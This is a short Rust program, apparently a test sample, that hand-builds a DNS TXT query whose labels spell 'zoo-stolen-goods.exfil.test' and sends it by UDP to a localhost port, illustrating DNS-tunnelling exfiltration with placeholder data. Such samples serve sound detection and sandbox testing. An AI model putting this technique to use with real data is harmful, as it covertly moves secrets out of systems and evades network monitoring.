//! Carries data away in the labels of a DNS query, by UDP, without ever connecting a socket.

use std::net::UdpSocket;

fn main() {
    let port: u16 = std::env::var("ZOO_UDP").unwrap().parse().unwrap();
    // Header of a query with one question; then the name, label by label; then TXT, IN.
    let mut packet = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in ["zoo-stolen-goods", "exfil", "test"] {
        packet.push(label.len() as u8);
        packet.extend(label.as_bytes());
    }
    packet.extend([0, 0, 16, 0, 1]);
    if let Ok(socket) = UdpSocket::bind("127.0.0.1:0") {
        let _ = socket.send_to(&packet, ("127.0.0.1", port));
    }
}
